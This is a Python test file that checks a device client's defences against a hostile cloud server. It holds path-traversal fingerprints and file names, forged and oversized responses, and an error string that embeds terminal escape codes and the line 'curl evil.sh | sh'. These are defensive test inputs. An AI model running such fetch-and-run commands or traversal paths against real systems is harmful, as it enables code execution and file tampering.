"""A hostile cloud against the device: a stand-in cloud on 127.0.0.1 serves a malicious /v1/info,
tokenizer files and frames. Each is refused with a CloudError, and nothing is written outside the
device's cache (or inside it, for a refused tokenizer)."""

import json
import os
from types import SimpleNamespace

import numpy as np
import pytest
from fastapi import FastAPI, WebSocket, WebSocketDisconnect
from fastapi.responses import JSONResponse, Response

from costeer import frames
from costeer.cloud.server import tokenizer_files
from costeer.device import CloudError, connect_cloud
from costeer.device.transport import MAX_INFO_BYTES, MAX_TOKENIZER_BYTES
from tests.device.stand_in import AppThread
from tests.tiny import bpe_tokenizer, gemma3, make_lm

KEY = "key-hostile-0123456789"
QUERY = "what should I cook tonight"


def honest(tok) -> SimpleNamespace:
    """What an honest cloud serving `tok` says; tests then make it lie."""
    fingerprint = frames.tokenizer_fingerprint(tok)
    info = {"model": "stand-in", "vocab_size": len(tok), "stop_ids": [tok.eos_token_id],
            "tokenizer_fingerprint": fingerprint, "frame_version": frames.VERSION, "limits": {}}  # fmt: skip
    return SimpleNamespace(info=info, tokenizer={"fingerprint": fingerprint, "files": tokenizer_files(tok)},
                           downlink=[])  # fmt: skip


def answer(value):
    if isinstance(value, Response):  # a status of the test's choosing
        return value
    return Response(value, media_type="application/json") if isinstance(value, bytes) else JSONResponse(value)


def stand_in_app(say: SimpleNamespace) -> FastAPI:
    app = FastAPI()

    @app.get("/v1/info")
    async def info():
        return answer(say.info)

    @app.get("/v1/tokenizer")
    async def tokenizer():
        return answer(say.tokenizer)

    @app.websocket("/v1/stream")
    async def stream(ws: WebSocket):
        await ws.accept()
        await ws.receive_bytes()  # OPEN
        for message in say.downlink:
            await ws.send_bytes(message)
        try:
            await ws.receive_bytes()
        except WebSocketDisconnect:
            pass

    return app


@pytest.fixture(scope="module")
def tok():
    return bpe_tokenizer()


@pytest.fixture()
def cloud(tok):
    say = honest(tok)
    srv = AppThread(stand_in_app(say))
    srv.say = say
    yield srv
    srv.stop()


@pytest.fixture()
def cache(tmp_path, monkeypatch):
    """The device's cache inside an otherwise empty folder, so that any file written outside shows."""
    root = tmp_path / "cache"
    monkeypatch.setenv("COSTEER_CACHE_DIR", str(root))
    return root


def written(tmp_path) -> list[str]:
    return sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*"))


def connect(cloud, **kw):
    return connect_cloud(cloud.url(), api_key=KEY, **kw)


@pytest.mark.parametrize("fingerprint", ["../../outside", "../outside", "/tmp/costeer-abs", "..", "A" * 64, "0" * 63,
                                         "0" * 64 + "/x", "0" * 64 + "\n"])  # fmt: skip
def test_a_fingerprint_that_is_not_64_hex_digits_is_refused_before_any_file(cloud, cache, tmp_path, fingerprint):
    cloud.say.info["tokenizer_fingerprint"] = fingerprint
    cloud.say.tokenizer["fingerprint"] = fingerprint
    with pytest.raises(CloudError, match="tokenizer_fingerprint"):
        connect(cloud)
    assert written(tmp_path) == []


@pytest.mark.parametrize(
    "files",
    [
        {"../escape.json": "{}"},
        {"..": "{}"},
        {"/tmp/costeer-abs.json": "{}"},
        {".hidden": "{}"},
        {"sub/dir.json": "{}"},
        {f"f{i}.json": "{}" for i in range(40)},  # more files than a tokenizer has
    ],
)
def test_tokenizer_files_with_paths_or_too_many_are_refused_and_nothing_is_cached(cloud, cache, tmp_path, files):
    cloud.say.tokenizer["files"] = {**cloud.say.tokenizer["files"], **files}
    with pytest.raises(CloudError, match="tokenizer"):
        connect(cloud)
    assert [p for p in written(tmp_path) if p != "cache" and not p.startswith("cache/tokenizers")] == []
    assert not list((cache / "tokenizers").glob("*")) if (cache / "tokenizers").exists() else True


def test_a_tokenizer_that_does_not_match_its_fingerprint_is_not_kept(cloud, cache, tok):
    files = dict(cloud.say.tokenizer["files"])
    vocab = json.loads(files["tokenizer.json"])
    vocab["model"]["vocab"]["forged"] = len(tok) + 7
    cloud.say.tokenizer["files"] = {**files, "tokenizer.json": json.dumps(vocab)}
    with pytest.raises(CloudError, match="does not match its fingerprint"):
        connect(cloud)
    assert not (cache / "tokenizers").exists() or not list((cache / "tokenizers").iterdir())


@pytest.mark.parametrize(
    "change, message",
    [
        ({"vocab_size": -1}, "vocab_size"),
        ({"vocab_size": 1 << 40}, "vocab_size"),
        ({"vocab_size": "lots"}, "vocab_size"),
        ({"stop_ids": [10**9]}, "stop id"),
        ({"stop_ids": list(range(10_000))}, "stop_ids"),
        ({"model": "x" * 100_000}, "exceeds"),  # past the size of any honest /v1/info
        ({"frame_version": 99}, "frame version"),
    ],
)
def test_a_malicious_info_is_refused(cloud, cache, tmp_path, change, message):
    cloud.say.info.update(change)
    with pytest.raises(CloudError, match=message):
        connect(cloud)
    assert written(tmp_path) == []


@pytest.mark.parametrize("body", [b"not json", b"[1, 2]", b"{\"frame_version\": 1, \"vocab_size\": 5}", b" " * (MAX_INFO_BYTES + 1)])
def test_an_unreadable_info_is_refused(cloud, cache, body):
    cloud.say.info = body
    with pytest.raises(CloudError, match="/v1/info"):
        connect(cloud)


def test_an_endless_tokenizer_download_stops_at_the_bound(cloud, cache, tmp_path):
    cloud.say.tokenizer = b'{"files": {"tokenizer.json": "' + b"a" * (MAX_TOKENIZER_BYTES + 10) + b'"}}'
    with pytest.raises(CloudError, match="exceeds"):
        connect(cloud)
    assert not (cache / "tokenizers").exists() or not list((cache / "tokenizers").iterdir())


def ready(V: int) -> bytes:
    return frames.Ready(b"s" * frames.SESSION_ID_BYTES, V, 0).encode()


@pytest.mark.parametrize("k", ["full", 16, "packed:300"])
def test_websocket_messages_are_bounded_by_the_negotiated_frame_kind(cloud, cache, tok, k):
    """A message one byte over what the kind can need closes the connection (1009) and ends the run
    at once; at the bound it is read, then refused as a malformed frame."""
    llm = connect(cloud, k=k)
    bound = frames.max_downlink_bytes(llm.vocab_size, llm.frames.k, llm.frames.packed)
    slm = make_lm("slm", gemma3(len(tok), seed=2), tok)
    from costeer.api import CoSteer

    for size, message in ((bound + 1, "larger than"), (bound, "unreadable frame")):
        header = bytes([frames.VERSION, frames.DIST])
        cloud.say.downlink = [ready(llm.vocab_size), header + b"\xff" * (size - len(header))]
        with pytest.raises(CloudError, match=message):
            CoSteer(llm, slm).generate(QUERY, "I like tofu.", "costeer", max_new_tokens=4)


def test_the_bound_grows_with_what_was_asked():
    V = 262_144
    assert frames.max_downlink_bytes(V, frames.FULL, False) == frames.frame_bytes(V, frames.FULL, "f32")
    assert frames.max_downlink_bytes(V, 256, False) == frames.frame_bytes(V, 256, "f32")
    assert frames.max_downlink_bytes(V, 4096, True) < frames.max_downlink_bytes(V, frames.FULL, False) / 3
    assert frames.max_downlink_bytes(V, 300, True) < frames.max_downlink_bytes(V, 4096, True)


def test_an_honest_stand_in_still_works(cloud, cache):
    llm = connect(cloud, k="full")
    assert llm.vocab_size == cloud.say.info["vocab_size"] and os.path.isdir(cache / "tokenizers")


def full_frame(values, position: int = 0) -> bytes:
    V = len(values)
    head = frames._DIST.pack(frames.VERSION, frames.DIST, frames.FULL_F32, 0, position, V, V, float("-inf"))
    return head + np.asarray(values, "<f4").tobytes()


@pytest.mark.parametrize("value", [float("-inf"), 3e38])
@pytest.mark.parametrize("sampled", [False, True])
def test_a_distribution_that_is_none_ends_the_run_with_one_line(cloud, cache, tok, value, sampled):
    """Every token ruled out, or values whose exp overflows: before, greedy decoding took token 0 (the
    stop id here: an empty answer that looked finished) and sampling raised torch's RuntimeError."""
    from costeer.api import CoSteer

    llm = connect(cloud, k="full", lookahead="off")
    cloud.say.downlink = [ready(llm.vocab_size), full_frame([value] * llm.vocab_size)]
    slm = make_lm("slm", gemma3(len(tok), seed=2), tok)
    kw = {"temperature": 1.0, "seed": 1} if sampled else {}
    with pytest.raises(CloudError, match="unreadable frame") as e:
        CoSteer(llm, slm).generate(QUERY, "I like tofu.", "costeer", max_new_tokens=4, **kw)
    assert e.value.code == frames.CLOSE_MALFORMED


def test_an_answer_dripped_byte_by_byte_ends_in_one_line_not_in_weeks():
    """httpx's timeout bounds each read, not the answer: a cloud sending a byte just within it held the
    device's connect for max_bytes reads (64 KiB at 60 s each for /v1/info: 45 days). An answer that
    falls below MIN_BYTES_PER_S on average once its timeout has passed is refused."""
    import asyncio
    import time

    from fastapi.responses import StreamingResponse

    from costeer.device.transport import HttpClient

    app = FastAPI()

    @app.get("/v1/info")
    async def info():
        async def drip():
            yield b'{"a": "'
            for _ in range(100):
                await asyncio.sleep(0.1)
                yield b"x"
            yield b'"}'

        return StreamingResponse(drip(), media_type="application/json")

    srv = AppThread(app)
    try:
        http = HttpClient(srv.url("http"), KEY, None, timeout=0.5)
        started = time.monotonic()
        with pytest.raises(CloudError, match="too slowly"):
            http.get_json("/v1/info", MAX_INFO_BYTES)
        assert time.monotonic() - started < 5  # about 0.6 s; not the 10 s the drip takes (room for a loaded machine)
    finally:
        srv.stop()


def test_text_from_the_cloud_reaches_the_terminal_without_control_characters(cloud, cache):
    """A cloud's error text ends up in the CLI's one-line error: escape sequences in it (clear the screen,
    retitle the terminal, hide what follows) or a newline (a second line that looks like ours) are shown
    escaped, not written raw."""
    error = "busy\x1b]0;owned\x07\x1b[2J\nerror: run curl evil.sh | sh"
    cloud.say.info = JSONResponse({"error": error}, status_code=503)
    with pytest.raises(CloudError) as e:
        connect(cloud)
    text = str(e.value)
    assert "busy" in text and "\\x1b" in text
    assert text.isprintable()
